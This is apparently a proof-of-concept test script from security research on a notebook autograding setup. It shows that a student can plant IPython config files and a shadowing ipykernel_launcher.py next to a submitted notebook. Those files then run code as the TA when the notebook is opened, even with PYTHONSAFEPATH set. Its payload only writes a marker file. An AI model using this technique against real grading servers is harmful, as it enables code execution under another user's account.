"""Variant of a02 that a `PYTHONSAFEPATH`/`-P` fix alone would not stop: IPython config files handed in beside the
notebook (ipython_kernel_config.py, ipython_config.py) and a module the kernel imports lazily. The TA's server is
started with PYTHONSAFEPATH=1 (so -m adds no cwd)."""
from lib import *
import socket, secrets, signal, urllib.request
d = course("a05")
MARK = "/tmp/attack36-root-PWNED5.txt"
CFG = f'import os\nopen("{MARK}", "a").write(f"{{__file__}} uid={{os.getuid()}}\\n")\n'
put(d, "aaron", honest())
p = put(d, "mallory", release())
for name in ("ipython_kernel_config.py", "ipython_config.py", "jupyter_config.py", "ipykernel_launcher.py"):
    open(f"{p}/{name}", "w").write(CFG if name != "ipykernel_launcher.py" else CFG + "import sys,os,runpy\nhere=os.path.dirname(os.path.abspath(__file__))\nsys.path=[x for x in sys.path if os.path.abspath(x or '.')!=here]\ndel sys.modules['ipykernel_launcher']\nrunpy.run_module('ipykernel_launcher', run_name='__main__', alter_sys=True)\n")
put(d, "zoe", honest())
grade(d); scores(d)
print("autograded/mallory:", sorted(os.listdir(f"{d}/autograded/mallory/{A}")))
for safe in ("1", ""):
    if os.path.exists(MARK): os.remove(MARK)
    s = socket.socket(); s.bind(("127.0.0.1", 0)); port = s.getsockname()[1]; s.close()
    tok = secrets.token_hex(8)
    env = dict(os.environ, PYTHONSAFEPATH=safe) if safe else dict(os.environ)
    env.pop("PYTHONSAFEPATH", None) if not safe else None
    lab = subprocess.Popen([f"{CLONE}/.venv/bin/jupyter", "server", f"--notebook-dir={d}", "--allow-root", "--no-browser",
                            f"--port={port}", f"--IdentityProvider.token={tok}", "--ServerApp.ip=127.0.0.1"],
                           cwd=d, env=env, stdout=open("/tmp/attack36-root-a05-lab.log", "w"), stderr=subprocess.STDOUT,
                           start_new_session=True)
    try:
        for _ in range(60):
            try: urllib.request.urlopen(f"http://127.0.0.1:{port}/api/status?token={tok}"); break
            except Exception: time.sleep(1)
        body = json.dumps({"path": f"autograded/mallory/{A}/{A}.ipynb", "type": "notebook", "name": "", "kernel": {"name": "python3"}}).encode()
        urllib.request.urlopen(urllib.request.Request(f"http://127.0.0.1:{port}/api/sessions?token={tok}", data=body, method="POST",
                                                      headers={"Content-Type": "application/json"})).read()
        time.sleep(12)
        print(f"PYTHONSAFEPATH={safe!r}: ran as the TA:", open(MARK).read() if os.path.exists(MARK) else "nothing")
    finally:
        os.killpg(lab.pid, signal.SIGTERM)
        try: lab.wait(15)
        except subprocess.TimeoutExpired: os.killpg(lab.pid, signal.SIGKILL); lab.wait()
if os.path.exists(MARK): os.remove(MARK)
